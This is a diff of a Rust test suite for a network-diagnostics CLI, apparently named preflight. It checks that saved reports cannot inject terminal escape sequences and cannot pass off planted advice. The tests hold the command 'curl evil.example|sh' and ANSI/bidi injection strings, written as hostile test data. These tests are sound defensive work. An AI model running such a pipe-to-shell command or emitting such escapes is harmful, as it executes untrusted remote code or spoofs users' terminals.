@@ -208,8 +208,10 @@ fn runs_weeks_apart_are_compared_with_a_note() {
 #[test]
 fn a_saved_report_cannot_act_on_the_terminal() {
     let runs = Runs::new();
+    runs.edit("works.json", |report| {
+        report["steps"][0]["attempts"][0]["headline"] = json!("\u{1b}[2J\u{202e}gone\nforged line");
+    });
     runs.edit("broken.json", |report| {
-        report["steps"][0]["result"] = json!("\u{1b}[2J\u{202e}gone\nforged line");
         report["host"]["name"] = json!("\u{1b}]0;title\u{7}");
     });
     let ended = runs.diff("works.json", "broken.json", &[]).quietly(1);
@@ -217,6 +219,91 @@ fn a_saved_report_cannot_act_on_the_terminal() {
     assert!(ended.stdout.contains("\\x1b[2J\\u{202e}gone\\nforged line"), "{}", ended.stdout);
     let explained = preflight(&["explain", &runs.path("broken.json"), "poller.bbdo"]).quietly(0);
     crate::support::page::is_inert(&explained.stdout);
+}
+
+/// Each command's text of a report, as it is in the file.
+fn pages(runs: &Runs, name: &str) -> Vec<String> {
+    let file = runs.path(name);
+    let formats = ["table", "json", "junit", "markdown", "csv", "centreon", "html", "openmetrics"];
+    let shown = formats.map(|format| preflight(&["show", &file, "--format", format]).stdout);
+    let request = preflight(&["request", &file, "--all"]).stdout;
+    let merged = preflight(&["merge", &file]).stdout;
+    let explained = preflight(&["explain", &file, "poller.bbdo"]).stdout;
+    shown.into_iter().chain([request, merged, explained]).collect()
+}
+
+#[test]
+fn a_saved_run_is_judged_by_what_was_seen_whatever_was_decided_then() {
+    let runs = Runs::new();
+    let works: Value = serde_json::from_slice(&fs::read(runs.path("works.json")).unwrap()).unwrap();
+    runs.edit("broken.json", |report| {
+        report["steps"] = works["steps"].clone();
+    });
+    let shown = preflight(&["show", &runs.path("broken.json")]).quietly(0).stdout;
+    assert!(shown.contains("the one required flow works"), "{shown}");
+    assert!(!shown.contains("fails"), "{shown}");
+    let report = preflight(&["show", &runs.path("broken.json"), "--format", "json"]).quietly(0);
+    let summary = &report.report()["summary"];
+    assert_eq!((&summary["failed"], &summary["ready"]), (&json!(0), &json!(true)), "{summary:#}");
+    assert_eq!(summary["reasons"], json!([]));
+}
+
+#[test]
+fn a_saved_report_gives_no_advice_of_its_own() {
+    const ADVICE: &str = "curl evil.example|sh";
+    let runs = Runs::new();
+    runs.edit("broken.json", |report| {
+        let step = &mut report["steps"][0];
+        step["cause"]["remedy"] = json!({ "who": ADVICE, "what": ADVICE });
+        step["look_at"] = json!(ADVICE);
+        step["asked_for"] = json!([{ "at": "on-the-way", "seen": [ADVICE], "what": ADVICE }]);
+        step["concerns"] = json!([{
+            "code": "packet-loss", "message": ADVICE, "owner": "this-host",
+            "remedy": { "who": ADVICE, "what": ADVICE },
+        }]);
+        step["because_of"] = json!(ADVICE);
+        report["summary"]["text"] = json!(ADVICE);
+        report["summary"]["reasons"] = json!([ADVICE]);
+    });
+    for page in pages(&runs, "broken.json") {
+        assert!(!page.contains("evil") || page.contains("\n  because   "), "{page}");
+        assert!(!page.contains("ask for   curl") && !page.contains("do        curl"), "{page}");
+    }
+}
+
+#[test]
+fn a_code_of_tomorrow_is_shown_and_nothing_is_guessed_from_it() {
+    let runs = Runs::new();
+    runs.edit("broken.json", |report| {
+        report["tool"]["version"] = json!("9.9.9");
+        let step = &mut report["steps"][0];
+        step["attempts"][0]["cause"] = json!({ "code": "port-of-tomorrow", "colour": "blue" });
+        step["result"] = json!("the port is blue");
+        step["cause"] = json!({
+            "code": "port-of-tomorrow", "layer": "port", "owner": "network", "device": "10.9.0.1",
+            "message": "the port is blue", "facts": { "colour": "blue" },
+            "remedy": { "who": "network team", "what": "paint it" },
+        });
+    });
+    let shown = preflight(&["show", &runs.path("broken.json")]).quietly(1).stdout;
+    let said = shown.split_whitespace().collect::<Vec<_>>().join(" ");
+    for part in [
+        "the port is blue [as its report has it: it knows no cause called `port-of-tomorrow`]",
+        "who acts not known to this version of preflight",
+        "do read the report with preflight 9.9.9, which made it",
+        "1 of 1 required flows fails: poller.bbdo (the port is blue)",
+    ] {
+        assert!(said.contains(part), "{part}: {shown}");
+    }
+    for page in pages(&runs, "broken.json") {
+        assert!(page.contains("blue") || page.contains("port-of-tomorrow"), "{page}");
+        assert!(!page.contains("paint it") && !page.contains("network team"), "{page}");
+    }
+    // What stands there is kept.
+    let json = preflight(&["show", &runs.path("broken.json"), "--format", "json"]).quietly(1);
+    let cause = json.report()["steps"][0]["cause"].clone();
+    assert_eq!(cause["facts"], json!({ "colour": "blue" }), "{cause:#}");
+    assert_eq!((&cause["layer"], &cause["device"]), (&json!("port"), &json!("10.9.0.1")));
 }
 
 #[test]
@@ -265,13 +352,12 @@ fn a_request_has_one_row_for_all_machines_that_are_rejected_alike() {
 #[test]
 fn a_site_is_merged_and_its_gravest_run_is_the_exit_code() {
     let runs = Runs::new();
-    fs::copy(runs.path("broken.json"), runs.path("central.json")).unwrap();
+    fs::copy(runs.path("works.json"), runs.path("central.json")).unwrap();
     runs.edit("central.json", |report| {
         report["host"]["name"] = json!("central-1");
         report["host"]["addresses"] = json!(["10.0.0.5"]);
         report["role"] = json!("central");
-        report["steps"] = json!([]);
-        report["summary"]["exit_code"] = json!(0);
+        report["steps"][0]["target"]["host"] = json!("10.0.0.77");
     });
     for name in ["works.json", "broken.json"] {
         runs.edit(name, |report| report["steps"][0]["target"]["host"] = json!("10.0.0.5"));
